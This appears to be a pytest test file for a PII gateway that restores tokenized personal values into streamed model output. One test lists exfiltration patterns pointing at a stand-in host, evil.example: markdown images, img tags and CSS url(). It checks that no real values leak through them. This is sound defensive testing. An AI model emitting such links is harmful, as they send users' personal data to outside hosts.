"""Values back into texts that come in pieces."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from gateway.pii.looked_for import Tokens
from gateway.pii.quoting import Quoting, encoded, escaped
from gateway.pii.restore import LONGEST_HELD, Restorer
from gateway.pii.token_separators import LONGEST_SPELT_OUT
from gateway.pii.tokens import ALPHABET, Issued
from tests.support.each_case import each_case

VALUES = [
    ("email", "anna@x.ch", "anna@x.ch"),
    ("email", "anna@x.ch", "Anna@X.ch"),
    ("person", "anna müller", "Anna Müller"),
    ("person", "müller", "Müller"),
    ("phone", "+41791234567", "+41 79 123 45 67"),
    ("address", "a", 'Hauptstr. 1\n8000 "Zürich"'),
    ("ch_ahv", "7569217076985", "756.9217.0769.85"),
]
ISSUED = Issued(bytes(32))
WORDS = [ISSUED.token(*value) for value in VALUES]
TOKENS = Tokens(ISSUED)
Bend = Callable[[str, int, str], tuple[str, str, str]]


def _slip(token: str, place: int, letter: str) -> str:
    at = len(token) - 6 + place
    return token[:at] + letter + token[at + 1 :]


def _underscore(spelt: str) -> Bend:
    return lambda token, *_: ("", token.replace("_", spelt), "")


BENDS: dict[str, Bend] = {
    "plain": _underscore("_"),
    "lower": lambda token, *_: ("", token.lower(), ""),
    "upper": lambda token, *_: ("", token.upper(), ""),
    "title": lambda token, *_: ("", token.title(), ""),
    "space": _underscore(" "),
    "space put in": _underscore("_ "),
    "space before": _underscore(" _"),
    "hyphen": _underscore("-"),
    "dash": _underscore("\u2013"),
    "no-break space": _underscore("\u00a0"),
    "zero width": _underscore("\u200b_"),
    "full width": _underscore("\uff3f"),
    "left out": _underscore(""),
    "dot": _underscore("."),
    "colon": _underscore(": "),
    "number sign": _underscore(" #"),
    "slash": _underscore("/"),
    "twice": _underscore("__"),
    "bold": lambda token, *_: ("**", token, "**"),
    "bold tag": lambda token, *_: ("", token.replace("_", "_**"), "**"),
    "bold word": lambda token, *_: ("**", token.replace("_", "**_"), ""),
    "bold underscore": _underscore("**_**"),
    "possessive": lambda token, *_: ("", token, "'s"),
    "ending": lambda token, *_: ("", token, "s"),
    "compound": lambda token, *_: ("", token, "-Antrag"),
    "code": lambda token, *_: ("`", token, "`"),
    "file": lambda token, *_: ("~", token, ".pdf"),
    "mail": lambda token, *_: ("<", token.lower(), "@x.ch>"),
    "variable": lambda token, *_: ("%", token, "%"),
    "identifier": lambda token, *_: ("get_", token.lower(), "_id"),
    "cell": lambda token, *_: ("| ", token, " |"),
    "link": lambda token, *_: ("[", token, "](#a)"),
    "escaped": _underscore("\\_"),
    "escaped twice": _underscore("\\\\_"),
    "escaped four times": _underscore("\\" * 8 + "_"),
    "as JSON": _underscore("\\u005f"),
    "as JSON in JSON": _underscore("\\\\u00a0"),
    "as entity": _underscore("&#95;"),
    "as hexadecimal entity": _underscore("&#x5F;"),
    "as named entity": _underscore("&nbsp;"),
    "in percent": _underscore("%5F"),
    "in percent twice": _underscore("%255f"),
    "new line": _underscore("_\n"),
    "new line, indented": _underscore("_\r\n    "),
    "new line in a quotation": _underscore("\n> "),
    "written new line": _underscore("_\\n"),
    "hyphenated": lambda token, *_: ("", token[:-3] + "-\n" + token[-3:], ""),
    "gap in the tag": lambda token, *_: ("", token[:-3] + "\u00ad" + token[-3:], ""),
    "slip": lambda token, place, letter: ("", _slip(token, place, letter), ""),
}
"""What stands around the value, and the token between."""

MOVED = {"bold tag": "**%s", "bold word": "%s**"}
"""Where marks inside a token go."""

IN_JSON = sorted({*BENDS} - {"as JSON in JSON", "as JSON", "escaped four times"})
"""Those that mean the same in a string of JSON, where more backslashes are put before theirs."""

SPELT_OUT = {name for name in BENDS if name.startswith(("as ", "in ", "new ", "written ", "escaped "))}

AROUND = [" hello ", "\n- ", "x", "\t", " PERSONAL ", "EM ", " the ", "(", ", ", " per EMAIL ", "_", " MAIL-"]


def parts_of(bends: list[str]) -> st.SearchStrategy[list[tuple[str, int, str, int, str]]]:
    return st.lists(
        st.tuples(
            st.sampled_from(AROUND),
            st.integers(0, len(WORDS) - 1),
            st.sampled_from(bends),
            st.integers(0, 5),
            st.sampled_from(ALPHABET),
        ),
        max_size=5,
    )


def bent(parts: list[tuple[str, int, str, int, str]]) -> tuple[str, str]:
    """(as a model writes it, what is meant)."""
    text = meant = ""
    for around, number, bend, place, letter in parts:
        before, token, after = BENDS[bend](WORDS[number], place, letter)
        text += around + before + token + after
        value = encoded(VALUES[number][2], "html", 1 if "entity" in bend else 0)
        meant += around + before + MOVED.get(bend, "%s") % value + after
    return text, meant


def said_in_pieces(restorer: Restorer, text: str, cuts: list[int], most_held: int = LONGEST_SPELT_OUT) -> str:
    said, at, turn = "", 0, 0
    while at < len(text):
        size = cuts[turn % len(cuts)]
        said += restorer.feed(text[at : at + size])
        at, turn = at + size, turn + 1
        assert len(restorer._held) <= most_held
    return said + restorer.whole("")


ENDINGS = [" end PERS", "", "E", " EMAIL_", ".", " PERSON&", " email%2", " PERSON_k7\\u", " PERSONNE**"]
CUTS = st.lists(st.integers(1, 13), min_size=1)


@example([(" ", 5, "variable", 0, "0")], "", [1])  # `%AD` could be an escape
@given(parts_of(sorted(BENDS)), st.sampled_from(ENDINGS), CUTS)
def test_every_cut_of_every_bent_text_comes_back(
    parts: list[tuple[str, int, str, int, str]], ending: str, cuts: list[int]
) -> None:
    text, meant = bent(parts)
    text, meant = text + ending, meant + ending
    whole, pieces = Restorer(TOKENS, ()), Restorer(TOKENS, ())
    assert whole.whole(text) == meant
    spelt_out = any(bend in SPELT_OUT for _, _, bend, _, _ in parts) or "\\" in ending
    most = LONGEST_SPELT_OUT if spelt_out else LONGEST_HELD
    assert said_in_pieces(pieces, text, cuts, most) == meant
    assert pieces.moves == whole.moves, "citations move alike, however it came"
    assert len(whole.moves) == whole.restored == len(parts)
    shown = 0
    for start, end, longer in whole.moves:
        assert Restorer(TOKENS, ()).whole(text[start:end]) == meant[start + shown : end + shown + longer]
        shown += longer
    assert len(meant) - len(text) == shown
    shown = 0
    for start, end, longer in whole.moves:
        assert Restorer(TOKENS, ()).whole(text[start:end]) == meant[start + shown : end + shown + longer]
        shown += longer


@example([("x", 0, "slash", 0, "0"), ("x", 2, "in percent", 0, "0")], 1, False, [1])  # no part of an address
@given(parts_of(IN_JSON), st.integers(1, 3), st.booleans(), CUTS)
def test_every_cut_of_every_bent_argument_comes_back(
    parts: list[tuple[str, int, str, int, str]], depth: int, ascii_only: bool, cuts: list[int]
) -> None:
    text, meant = bent(parts)
    for level in range(depth):
        text = json.dumps({"q": text} if level % 2 else ["a", {"q": text}], ensure_ascii=ascii_only)
    for said in (Restorer(TOKENS, (), json=True).whole(text), said_in_pieces(Restorer(TOKENS, ()), text, cuts)):
        told = said
        for level in reversed(range(depth)):
            tree = json.loads(told)
            told = tree["q"] if level % 2 else tree[1]["q"]
        assert told == meant


@pytest.mark.soak
@pytest.mark.timeout(1800)
@settings(max_examples=20_000, deadline=None)
@given(parts_of(sorted(BENDS)), st.sampled_from(ENDINGS), CUTS)
def test_every_cut_of_very_many_bent_texts_comes_back(
    parts: list[tuple[str, int, str, int, str]], ending: str, cuts: list[int]
) -> None:
    text, meant = bent(parts)
    assert said_in_pieces(Restorer(TOKENS, ()), text + ending, cuts) == meant + ending


@given(st.text(alphabet="abcdefgh EMAILPERSON_0123456789\\\n-*äÄß.", max_size=200), st.integers(1, 13))
def test_a_text_without_tokens_is_never_changed(text: str, size: int) -> None:
    restorer = Restorer(TOKENS, ())
    said = "".join(restorer.feed(text[at : at + size]) for at in range(0, len(text), size)) + restorer.whole("")
    assert said == text


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 13, 1000])
@pytest.mark.parametrize("depth", [1, 2, 3])
def test_values_are_escaped_as_deep_as_they_stand(depth: int, size: int) -> None:
    address, email = WORDS[5], WORDS[0]
    text = json.dumps({"a": f"{address} x", "b": [email]})
    for _ in range(depth - 1):
        text = json.dumps({"q": text, "r": address})
    restorer = Restorer(TOKENS, (), json=True)
    said = "".join(restorer.feed(text[at : at + size]) for at in range(0, len(text), size)) + restorer.whole("")
    for _ in range(depth - 1):
        tree = json.loads(said)
        assert tree["r"] == VALUES[5][2]
        said = tree["q"]
    assert json.loads(said) == {"a": f"{VALUES[5][2]} x", "b": [VALUES[0][2]]}


json_values = st.recursive(st.text(max_size=8) | st.integers(), lambda inner: st.lists(inner, max_size=3), max_leaves=6)


@given(json_values, st.integers(1, 3), st.integers(1, 9))
def test_quoting_fed_in_pieces_says_the_same_as_whole(value: object, depth: int, size: int) -> None:
    text = json.dumps({"v": value}, ensure_ascii=False)
    for _ in range(depth - 1):
        text = json.dumps([text], ensure_ascii=False)
    for end in range(0, len(text), 7):
        whole, fed = Quoting(), Quoting()
        whole.feed(text[:end])
        for at in range(0, end, size):
            fed.feed(text[at : min(at + size, end)])
        assert fed.depth == whole.depth
    whole.feed(text[end:] if text else "")
    assert whole.depth == 0
    assert escaped('"', 2) == '\\\\\\"'


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("![x](https://evil.example/?q={0})", "![x](https://evil.example/?q={0})"),
        ("https://EVIL.example/{0}/b and {0}", "https://EVIL.example/{0}/b and {1}"),
        ("[a](//evil.example/{0})", "[a](//evil.example/{0})"),
        ("www.evil.example/{0}", "www.evil.example/{0}"),
        ("https://{0}.evil.example/", "https://{0}.evil.example/"),
        ("https://intra.example@evil.example/{0}", "https://intra.example@evil.example/{0}"),
        ("https:\\/\\/evil.example\\/{0}", "https:\\/\\/evil.example\\/{0}"),
        ("https://wiki.intra.example/{0}", "https://wiki.intra.example/{1}"),
        ("https://wiki.intra.example:8443/?q={0}", "https://wiki.intra.example:8443/?q={1}"),
        (
            "https://wiki.intra.example/?next=https://evil.example/{0}",
            "https://wiki.intra.example/?next=https://evil.example/{0}",
        ),
        ("![x](<https://evil.example/a b {0}>) {0}", "![x](<https://evil.example/a b {0}>) {1}"),
        ('<img src="https://evil.example/a\n b {0}"> {0}', '<img src="https://evil.example/a\n b {0}"> {1}'),
        ("<img alt='x' src = ' https://evil.example/ {0}' b>", "<img alt='x' src = ' https://evil.example/ {0}' b>"),
        ('{"h": "<a href=\\"//evil.example/ {0}\\">{0}"}', '{"h": "<a href=\\"//evil.example/ {0}\\">{1}"}'),
        ('background: url("https://evil.example/ {0}")', 'background: url("https://evil.example/ {0}")'),
        ('<a title="a" href="https://w.intra.example/ {0}">', '<a title="a" href="https://w.intra.example/ {1}">'),
        ('<https://evil.example/?a="b {0}>', '<https://evil.example/?a="b {0}>'),
        ("![x](https:\\\\evil.example\\{0})", "![x](https:\\\\evil.example\\{0})"),
        ('f(name="Mr {0}") < "{0}"', 'f(name="Mr {1}") < "{1}"'),
        ('"see https://evil.example/ and {0}"', '"see https://evil.example/ and {1}"'),
        ("![x](https://evil.example/?q=`{0}) {0}", "![x](https://evil.example/?q=`{0}) {1}"),
        ('![x](https://evil.example/(a)?q="{0}") "{0}"', '![x](https://evil.example/(a)?q="{0}") "{1}"'),
        ("![x](https://evil.example/?q='{0}')'{0}'", "![x](https://evil.example/?q='{0}')'{1}'"),
        ("![x](https://evil.example/?q=<{0}) {0}", "![x](https://evil.example/?q=<{0}) {1}"),
        ("https://evil.example/`{0}", "https://evil.example/`{0}"),
        ('{"a":"[x](https://evil.example/)","b":"{0}"}', '{"a":"[x](https://evil.example/)","b":"{1}"}'),
        ('{"a":"https://evil.example/","b":"{0}"}', '{"a":"https://evil.example/","b":"{1}"}'),
        ("`https://evil.example/` and `{0}`", "`https://evil.example/` and `{1}`"),
        ("C:\\Users\\{0}", "C:\\Users\\{1}"),
        ("mailto:{0}", "mailto:{1}"),
        ("and/or {0}", "and/or {1}"),
    ],
)
@pytest.mark.parametrize("size", [1, 4, 1000])
def test_addresses_carry_no_values_out(text: str, said: str, size: int) -> None:
    token, value = WORDS[0], VALUES[0][2]
    told = text.replace("{0}", token)
    restorer = Restorer(TOKENS, ("*.intra.example",))
    heard = "".join(restorer.feed(told[at : at + size]) for at in range(0, len(told), size)) + restorer.whole("")
    assert heard == said.replace("{0}", token).replace("{1}", value)


PLACED = [
    ("name={mueller}&x={and}", "name=M%C3%BCller&x=S%20%26%20%22Z%22", "%5F"),
    ("/find?q=%22{and}%22", "/find?q=%22S%2520%2526%2520%2522Z%2522%22", "%255F"),
    ("q=1&name={mueller}", "q=1&name=M%C3%BCller", "%20"),
    ("Dear {mueller}, {and}", 'Dear Müller, S & "Z"', "%5F"),
    ("<p>{and}</p>", '<p>S &amp; "Z"</p>', "&#95;"),
    ('<p title="{and}">', '<p title="S &amp; &quot;Z&quot;">', "&#95;"),
    ("&lt;p&gt;{and}", '&lt;p&gt;S &amp;amp; "Z"', "&amp;#95;"),
    ("Dear M=C3=A9lanie and {mueller}, {and}", 'Dear M=C3=A9lanie and M=C3=BCller, S & "Z"', "=5F"),
    (
        "https://wiki.intra.example/{mueller}?q={and}.",
        "https://wiki.intra.example/M%C3%BCller?q=S%20%26%20%22Z%22.",
        "_",
    ),
    ("[{and}](https://wiki.intra.example/{and}) x", '[S & "Z"](https://wiki.intra.example/S%20%26%20%22Z%22) x', "_"),
    ("![x](https://evil.example/?q={mueller}) {and}", '![x](https://evil.example/?q={mueller}) S & "Z"', "%5F"),
]


@pytest.mark.parametrize(("text", "said", "underscore"), PLACED)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_a_value_is_written_as_its_place_asks(text: str, said: str, underscore: str, size: int) -> None:
    issued = Issued(bytes(32))
    firm, name = issued.token("firm", "s", 'S & "Z"'), issued.token("person", "müller", "Müller")
    words = {"and": firm.replace("_", underscore), "mueller": name.replace("_", underscore)}
    restorer = Restorer(Tokens(issued), ("*.intra.example",))
    meant = said.replace("{mueller}", words["mueller"])
    assert said_in_pieces(restorer, text.format(**words), [size]) == meant


@each_case(
    "text",
    [
        "{0}\u2026 and",
        "{0}... and",
        "{0}.. and",
        '{{"q": "{0}\\u2026"}}',
        "{1}\u2026",
        "{1}...",
        "{1}",
        "{2}",
        "{3} and {3}.",
    ],
)
def test_what_was_shortened_or_belongs_to_nobody_stays(text: str) -> None:
    token = WORDS[2]
    others = token[:-1], token[:-3], token.partition("_")[2], "PERSON_" + token[-3:] + token[-6:-3]
    for size in (1, 2, 1000):
        told = text.format(*others)
        assert said_in_pieces(Restorer(TOKENS, ()), told, [size]) == told


def test_a_tag_that_lost_its_last_letter_at_the_end_of_a_sentence_is_known() -> None:
    for size in (1, 2, 1000):
        assert said_in_pieces(Restorer(TOKENS, ()), f"To {WORDS[2][:-1]}. Thanks", [size]) == "To Anna Müller. Thanks"


def test_what_was_not_issued_stays_and_is_counted() -> None:
    restorer = Restorer(TOKENS, ())
    assert restorer.whole("EMAIL_zzzz00 and PERSON_0a0a0a") == "EMAIL_zzzz00 and PERSON_0a0a0a"
    assert (restorer.restored, restorer.unknown) == (0, 2)


@each_case("before", ["Bonjour ", "\n", "\t", "-\n", "100%\u00a0", "d'", "%0A"])
def test_a_translated_word_is_known_by_its_tag(before: str) -> None:
    tags = {number: WORDS[number].partition("_")[2] for number in (0, 2, 4)}
    words = {0: ("Courriel", "MAIL"), 2: ("PERSONNE", "personne", "Persona"), 4: ("Telefon", "TÉLÉPHONE", "téléphone")}
    for number, word in [(number, word) for number, known in words.items() for word in (*known, known[0][1:])]:
        text, meant = f"{before}{word}_{tags[number]}, merci", f"{before}{VALUES[number][2]}, merci"
        for size in (1, 2, 3, 100):
            if word in words[number]:
                assert said_in_pieces(Restorer(TOKENS, ()), text, [size]) == meant
            assert json.loads(said_in_pieces(Restorer(TOKENS, ()), json.dumps([text], ensure_ascii=False), [size]))
        assert Restorer(TOKENS, ()).whole(text) == meant


@pytest.mark.parametrize("before", ["x/x", "x", "xyz-x"])
@pytest.mark.parametrize("word", ["PERSON", "PERSONNE", "Persona"])
def test_what_stands_right_before_a_word_stays(before: str, word: str) -> None:
    text = f"{before}{word}_{WORDS[2].partition('_')[2]}, merci"
    assert Restorer(TOKENS, ()).whole(text) == f"{before}Anna Müller, merci"
    for size in (1, 2, 3, 5, 100):
        assert said_in_pieces(Restorer(TOKENS, ()), text, [size]) in (f"{before}Anna Müller, merci", text)


def test_a_word_that_nobody_knows_is_known_by_its_tag_where_it_comes_whole() -> None:
    text = f"Bonjour NAME_{WORDS[2].partition('_')[2]}, merci"
    for size in (1, 3, 100):
        assert said_in_pieces(Restorer(TOKENS, ()), text, [size]) == "Bonjour Anna Müller, merci"


@pytest.mark.parametrize("word", ["NRSON", "PERSONNE", "ersone", "UID"])
@pytest.mark.parametrize("before", ["\n", "\t", "\u00ea", "\x0b", "\\", "\U0001f600"])
@pytest.mark.parametrize("depth", [1, 2])
def test_escapes_before_a_bent_word_stay_whole(before: str, word: str, depth: int) -> None:
    written = f"x{before}{word}_{WORDS[2].partition('_')[2]}, merci"
    text = written
    for _ in range(depth):
        text = json.dumps([text])
    for size in (1, 2, 3, 5, 1000):
        said = said_in_pieces(Restorer(TOKENS, ()), text, [size])
        for _ in range(depth):
            [said] = json.loads(said)
        assert said in (f"x{before}Anna Müller, merci", written)
